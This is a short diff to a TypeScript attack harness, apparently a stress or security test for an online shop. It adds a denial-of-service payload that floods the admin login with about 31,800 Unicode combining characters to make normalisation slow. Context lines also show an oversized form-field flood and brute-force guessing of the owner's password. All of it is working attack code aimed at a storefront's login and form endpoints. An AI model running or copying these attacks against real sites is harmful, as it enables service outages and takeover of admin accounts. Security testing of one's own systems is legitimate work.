@@ -97,6 +97,12 @@ const ATTACKS: Record<string, () => Promise<never>> = {
     const body = multipart({ ...hidden, ...RECEIVER, note: "\uFDFA".repeat(1_830_000) });
     return hammer(() => ({ path, headers: { ...FORM_HEADERS, origin: shopUrl }, body }));
   },
+  "logins that are slow to normalise": async () => {
+    const hidden = await readForm(`${shopUrl}/admin/login`, "password");
+    const login = "\u0344".repeat(15_900) + "\u0323".repeat(15_900);
+    const body = multipart({ ...hidden, login, password: "guess" });
+    return hammer(() => ({ path: "/admin/login", headers: { ...FORM_HEADERS, origin: shopUrl }, body }));
+  },
   "guesses at the owner's password": async () => {
     const hidden = await readForm(`${shopUrl}/admin/login`, "password");
     const form = () => multipart({ ...hidden, login: "owner", password: `guess ${Math.random()}` });
